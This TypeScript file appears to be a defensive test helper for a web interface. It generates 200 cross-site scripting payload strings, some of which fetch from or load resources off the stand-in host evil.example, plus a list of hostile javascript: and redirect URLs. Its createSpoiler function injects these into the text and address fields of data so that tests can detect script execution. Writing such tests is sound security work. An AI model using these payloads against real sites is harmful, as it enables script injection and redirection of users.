/** The calls that an attack would run: a journey detects each one, as a dialog or as a mark on the window. */
const acts = ['alert(1)', 'window.hacked=1', 'confirm`1`', "top['prompt'](1)", 'fetch("//evil.example")'];

/** Ways to run code from HTML, attributes, addresses, styles, templates and scripts. */
const ways: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</script><script>${act}</script>`,
  (act) => `<ScRiPt >${act}</sCrIpT>`,
  (act) => `<script/x>${act}</script `,
  (act) => `<img src=x onerror=${act}>`,
  (act) => `"><img src=x onerror='${act}'>`,
  (act) => `'><svg/onload=${act}>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  (act) => `<body onload=${act}>`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<video><source onerror=${act}>`,
  (act) => `<marquee onstart=${act}>`,
  (act) => `<iframe src="javascript:${act}">`,
  (act) => `<iframe srcdoc="<script>${act}</script>">`,
  (act) => `<object data="javascript:${act}">`,
  (act) => `<embed src="data:text/html,<script>${act}</script>">`,
  (act) => `<a href="javascript:${act}">press</a>`,
  (act) => `<a href="JaVa\tScRiPt:${act}">press</a>`,
  (act) => `<form action="javascript:${act}"><button>press</button></form>`,
  (act) => `<base href="//evil.example/"><script src=x></script>${act}`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<link rel=stylesheet href="//evil.example/${act}">`,
  (act) => `<style>@import '//evil.example/${act}';</style>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<!--><img src=x onerror=${act}>-->`,
  (act) => `<![CDATA[><img src=x onerror=${act}>]]>`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `&#60;img src=x onerror=${act}&#62;`,
  (act) => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  (act) => `%3Cscript%3E${act}%3C/script%3E`,
  (act) => `" onmouseover="${act}" autofocus onfocus="${act}`,
  (act) => `' style='animation-name:x' onanimationstart='${act}`,
  (act) => `\`;${act};//`,
  (act) => `';${act};'`,
  (act) => `javascript:${act}//`,
  (act) => `<<b>/onerror=${act}//<img src=x`,
];

/** 200 strings that have run as script somewhere when text was treated as markup, an address or code. */
export const hostileStrings: readonly string[] = acts.flatMap((act) => ways.map((way) => way(act)));

/** Addresses that run code, or lead to another site. */
const hostileAddresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '\tjavascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  '//evil.example/x',
  '/\\evil.example',
  '"><script>alert(1)</script>',
  "x' onerror='alert(1)",
];

/** Keys with values that are identifiers of the program and not texts for people. */
const wordNames =
  /^(id|kind|component|visibility|tags|status|icon|colour|tone|type|scheme|schemes|date|time|start|end|from|to|now|version|snapshot|etag|lastUpdated|created)$|(Id|Ids|At|Code|Date|Time|Mode|Mark)$/;
const addressNames = /^(link|image|url|target|href|src|embed|address|poster)$|(Url|Link|Image)$/i;

/**
 * Which strings are changed: `texts` appends to everything that reads like a sentence, `all` also to single words, and changes addresses.
 */
export type Spoiling = 'texts' | 'all';

/** Adds hostile strings to every text of a value. Takes the next one each time, so that all 200 are used. */
export function createSpoiler(): (value: unknown, how: Spoiling, name?: string) => unknown {
  let turn = 0;
  const next = (list: readonly string[]) => list[turn++ % list.length] ?? '';
  return function spoil(value, how, name = ''): unknown {
    if (Array.isArray(value)) return value.map((child) => spoil(child, how, name));
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([key, child]) => [key, spoil(child, how, key)]));
    if (typeof value !== 'string' || wordNames.test(name)) return value;
    if (addressNames.test(name)) return how === 'all' ? next(hostileAddresses) : value;
    return how === 'all' || /\s/.test(value) ? `${value} ${next(hostileStrings)}` : value;
  };
}
